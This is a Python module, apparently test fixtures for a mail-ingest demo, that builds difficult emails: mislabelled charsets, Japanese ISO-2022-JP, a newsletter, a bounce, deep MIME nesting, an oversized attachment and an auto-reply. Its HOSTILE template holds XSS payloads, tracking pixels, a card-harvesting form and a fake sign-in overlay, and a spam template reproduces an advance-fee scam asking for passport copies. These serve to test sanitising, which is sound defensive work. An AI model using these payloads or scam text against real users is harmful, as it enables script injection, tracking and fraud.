"""The mails nobody plans for: hostile, garbled, automatic and unreadable ones."""

from base64 import encodebytes
from dataclasses import replace
from datetime import datetime
from random import Random

from ingest.demo.compose import Letter, render

CAP_BYTES = 400_000

HOSTILE = """\
From: "Gratulera! <b>Ny vinnare</b>" <promo@hostile.test>
To: <{to}>
Subject: Your parcel <img src=x onerror=alert(1)> is waiting
Date: {date}
Message-ID: <{message_id}>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><script>alert("This must never run")</script>
<style>body {{ background: url(http://tracker.hostile.test/pixel.gif) }}</style></head>
<body onload="alert(2)"><p>Your parcel could not be delivered.</p>
<img src="http://tracker.hostile.test/open.gif?who={to}" width="1" height="1">
<p><a href="javascript:alert(3)">Pay the fee of 2.00 now</a></p>
<form action="http://hostile.test/steal"><input name="card"><button>Pay</button></form>
<div style="position: fixed; inset: 0; background: white">Sign in again to read this mail</div>
<iframe src="http://hostile.test/"></iframe></body></html>
"""

MISLABELLED = """\
From: Bjorn Ekstrom <bjorn@gammaldator.example>
To: <{to}>
Subject: Fraga om bordet
Date: {date}
Message-ID: <{message_id}>
MIME-Version: 1.0
Content-Type: text/plain; charset={charset}
Content-Transfer-Encoding: 8bit

Hej, jag skriver från en äldre dator så åäö kan se konstiga ut.
Är bordet Ask på 180 × 90 cm fortfarande till salu för 4 990 kr?

Hälsningar
Björn Ekström
"""

JAPANESE = (
    "こんにちは。来月マルメのショールームを見学したいのですが、予約は必要ですか。\n\n田中 由美"
)

NEWSLETTER = """\
From: Trade Fair Weekly <news@tradefair.example>
To: <{to}>
Subject: Five trends for home offices | issue {issue}
Date: {date}
Message-ID: <{message_id}>
List-Id: <weekly.tradefair.example>
List-Unsubscribe: <mailto:leave@tradefair.example>
Precedence: bulk
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<table width="600" bgcolor="#eef2f5" cellpadding="16"><tr><td><h1>Trade Fair Weekly</h1>
<p>Cork floors, softer corners and <b>desks that disappear</b>: what we saw in hall 7.</p>
<img src="http://news.tradefair.example/banner{issue}.jpg" width="560" height="180">
<p><a href="http://news.tradefair.example/{issue}">Read the whole story</a></p></td></tr></table>
"""

SPAM = """\
From: "Dr. Prosper Grant" <grants{issue}@lottery.test>
To: <{to}>
Subject: RE: your pending transfer of 4,500,000 EUR
Date: {date}
Message-ID: <{message_id}>
Content-Type: text/plain; charset=us-ascii

Dear beneficiary,

your name was drawn. Kindly send your full name and a copy of your passport to
release the sum of 4,500,000 EUR (four million five hundred thousand) today.

Dr. Prosper Grant, Foreign Operations
"""

BOUNCE = """\
From: Mail Delivery System <mailer-daemon@mx.kund.test>
To: <{to}>
Subject: Undelivered Mail Returned to Sender
Date: {date}
Message-ID: <{message_id}>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="dsn"

--dsn
Content-Type: text/plain; charset=us-ascii

Your message to <{recipient}> could not be delivered: the mailbox is full.

--dsn
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.kund.test

Final-Recipient: rfc822; {recipient}
Action: failed
Status: 5.2.2
Diagnostic-Code: smtp; 552 5.2.2 Mailbox full

--dsn
Content-Type: message/rfc822

{original}
--dsn--
"""


def written(template: str, *, to: str, at: datetime, message_id: str, **about: object) -> bytes:
    """One of the templates above as bytes, CRLF at line ends."""
    date = at.strftime("%a, %d %b %Y %H:%M:%S +0000")
    text = template.format(to=to, date=date, message_id=message_id, **about)
    encoding = "cp1252" if about.get("charset") else "utf-8"
    return text.replace("\n", "\r\n").encode(encoding)


def japanese(*, to: str, at: datetime, message_id: str) -> bytes:
    """A mail in ISO-2022-JP (RFC 1468), as Japanese mail programs long wrote it."""
    letter = Letter(
        sender=("Yumi Tanaka", "yumi@kaguya.example"),
        to=("", to),
        subject="ショールームについて",
        text="-",
        at=at,
        message_id=message_id,
        html=False,
    )
    head = render(letter).partition(b"\r\n\r\n")[0]
    kept = [line for line in head.split(b"\r\n") if not line.lower().startswith(b"content-")]
    kept.append(b"Content-Type: text/plain; charset=iso-2022-jp")
    body = JAPANESE.replace("\n", "\r\n").encode("iso2022_jp")
    return b"\r\n".join(kept) + b"\r\n\r\n" + body + b"\r\n"


def nested(*, to: str, at: datetime, message_id: str, depth: int = 120) -> bytes:
    """A mail nested far deeper than any person writes."""
    parts = [
        f'Content-Type: multipart/mixed; boundary="b{n}"\r\n\r\n--b{n}\r\n' for n in range(depth)
    ]
    ends = [f"\r\n--b{n}--" for n in reversed(range(depth))]
    inner = "Content-Type: text/plain\r\n\r\nThe scan.\r\n"
    head = _scanned("Scan 0046", to, at, message_id)
    return (head + "".join(parts) + inner + "".join(ends) + "\r\n").encode()


def heavy(*, to: str, at: datetime, message_id: str) -> bytes:
    """A mail over the size that the demo's house reads whole: kept as headers, and marked."""
    scan = encodebytes(Random(46).randbytes(CAP_BYTES)).replace(b"\n", b"\r\n")
    kind = (
        "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n"
        'Content-Disposition: attachment; filename="scan-0047.tif"\r\n\r\n'
    )
    return (_scanned("Scan 0047", to, at, message_id) + kind).encode() + scan


def _scanned(subject: str, to: str, at: datetime, message_id: str) -> str:
    date = at.strftime("%a, %d %b %Y %H:%M:%S +0000")
    return (
        f"From: Scanner <scan3@printer.example>\r\nTo: <{to}>\r\nSubject: {subject}\r\n"
        f"Date: {date}\r\nMessage-ID: <{message_id}>\r\nMIME-Version: 1.0\r\n"
    )


def away(answered: Letter, *, at: datetime, message_id: str) -> bytes:
    """A holiday reply (RFC 3834) to what we sent."""
    return render(
        replace(
            answered,
            sender=("", answered.to[1]) if not answered.to[0] else answered.to,
            to=answered.sender,
            subject=f"Automatic reply: {answered.subject}",
            text="I am away until Monday and read no mail. In urgent cases: office@kund.test.",
            at=at,
            message_id=message_id,
            references=(*answered.references, answered.message_id),
            history="",
            html=False,
            table=False,
            logo=False,
            paper="",
            headers={"Auto-Submitted": "auto-replied", "X-Auto-Response-Suppress": "All"},
        )
    )
